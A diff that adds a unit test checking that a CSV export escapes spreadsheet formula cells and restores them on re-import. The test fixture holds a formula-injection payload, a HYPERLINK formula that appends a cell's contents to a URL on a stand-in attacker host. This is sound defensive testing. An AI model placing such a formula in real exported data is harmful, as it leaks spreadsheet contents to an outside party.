@@ -150,4 +150,16 @@ describe("toHsdsTables", () => {
     expect(dataset.providers).toEqual(germanDataset.providers);
     expect(dataset.offices).toEqual(germanDataset.offices);
   });
+
+  it("neutralises formula cells and reads them back as the original text", () => {
+    const [first, ...rest] = germanDataset.offices;
+    const hostile = { ...first!, name: '=HYPERLINK("http://evil.example/?"&A1,"Termin")' };
+    const hostileTables = toHsdsTables({ ...germanDataset, offices: [hostile, ...rest] });
+    const cells = Object.entries(hostileTables)
+      .filter(([file]) => file.endsWith(".csv"))
+      .flatMap(([, csv]) => csv.split(/[\r\n,]+/));
+    expect(cells.filter((cell) => /^"?[=+@]/.test(cell))).toEqual(["+49 171 2345678"]);
+    expect(hostileTables["services.csv"]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
+    expect(fromHsdsTables(hostileTables).dataset.offices[0]?.name).toBe(hostile.name);
+  });
 });
